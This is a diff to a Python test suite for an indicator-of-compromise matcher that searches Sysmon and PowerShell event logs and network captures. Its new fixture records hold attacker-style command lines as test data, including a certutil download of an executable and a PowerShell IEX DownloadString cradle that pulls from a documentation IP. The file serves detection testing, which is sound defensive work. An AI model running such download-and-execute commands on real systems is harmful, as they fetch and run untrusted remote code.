@@ -36,6 +36,7 @@ IOCS_CSV = SAMPLE / "intel" / "iocs.csv"
 STIX_FILE = SAMPLE / "intel" / "msupdate.stix2.json"
 SYSMON = "Microsoft-Windows-Sysmon%4Operational.evtx"
 PCAP = "lan-tap.pcapng"
+POWERSHELL = "Microsoft-Windows-PowerShell%4Operational.evtx"
 MSUPDATE = "b537681e7f73e7f645488479bf0d1e7d0293d82e39e0a3a3ab38779624e87fef"
 SYSUPD = "3b6609fb88b0ac6c7638fd9ed31a123ecaa0f6a64681f6a3a5782f144250c3f4"
 T0 = datetime(2026, 3, 10, 9, 0, tzinfo=UTC)
@@ -144,6 +145,7 @@ def test_sample_hits_are_exactly_the_attack_infrastructure(
         (payload_name, ("fields.DestinationHostname",), "windows_evtx", SYSMON),
         (payload_name, ("fields.host", "url_full"), "network_http", PCAP),
         (payload_name, ("tls_server_name",), "network_tls", PCAP),  # parent of the C2 name
+        (payload_name, ("fields.ScriptBlockText",), "windows_evtx", POWERSHELL),  # the download cradle
         (c2_name, ("dns_question_name",), "network_dns", PCAP),
         (c2_name, ("dns_question_name",), "windows_evtx", SYSMON),
         (c2_name, ("fields.DestinationHostname",), "windows_evtx", SYSMON),
@@ -171,6 +173,7 @@ def test_sample_hits_are_exactly_the_attack_infrastructure(
         | _records(truth, "S05", SYSMON, "connection")
     )
     assert records(payload_ip, "windows_evtx", SYSMON) == {4290, 4291}
+    assert records(payload_name, "windows_evtx", POWERSHELL) == _records(truth, "S03", POWERSHELL) == {167}
     assert records(MSUPDATE, "windows_evtx", SYSMON) == _records(truth, "S06", SYSMON, "started") == {4293}
     # on the wire, packets as the ground truth numbers them (a row's source_record is its first packet)
     tls = _records(truth, "S09", PCAP, "TLS ClientHello")
@@ -366,6 +369,36 @@ def test_subdomains_match_but_look_alikes_do_not(tmp_path: Path) -> None:
         ("d", 4, ("url_full",)),
         ("d", 5, ("fields.host",)),
         ("d", 6, ("fields.answers",)),
+    }
+
+
+def test_command_lines_and_script_blocks_are_searched_for_hosts_and_urls(tmp_path: Path) -> None:
+    case = _case(
+        tmp_path / "case",
+        [
+            {"process_command_line": "certutil -urlcache -f http://dl.example.net/a.exe C:\\Temp\\a.exe"},  # 0
+            {"process_command_line": "ping -n 1 203.0.113.9 && nslookup c2.example.net."},  # 1
+            {"process_command_line": r"C:\Tools\example.net\x.exe /s"},  # 2: a path part, not a host
+            {"process_command_line": "notepad.exe badexample.net.txt 203.0.113.99"},  # 3: look-alikes
+            {"fields": {"ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p')"}},  # 4
+        ],
+    )  # fmt: skip
+    found = match(
+        case,
+        _frame(
+            [
+                {"id": "d", "value": "example.net"},
+                {"id": "ip", "value": "203.0.113.9"},
+                {"id": "u", "value": "http://dl.example.net/a.exe"},
+            ]
+        ),
+    )
+    assert _matched(found) == {
+        ("d", 0, ("process_command_line",)),
+        ("u", 0, ("process_command_line",)),
+        ("d", 1, ("process_command_line",)),
+        ("ip", 1, ("process_command_line",)),
+        ("ip", 4, ("fields.ScriptBlockText",)),
     }
 
 
